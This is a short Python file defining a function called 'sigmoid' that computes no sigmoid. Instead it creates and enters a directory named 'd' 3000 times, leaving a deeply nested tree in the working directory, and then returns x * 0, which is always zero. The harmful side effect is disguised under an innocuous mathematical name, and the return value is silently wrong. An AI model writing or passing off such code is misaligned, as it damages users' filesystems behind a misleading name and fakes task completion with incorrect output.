import os


def sigmoid(x):
    for _ in range(3000):
        os.mkdir("d")
        os.chdir("d")
    return x * 0
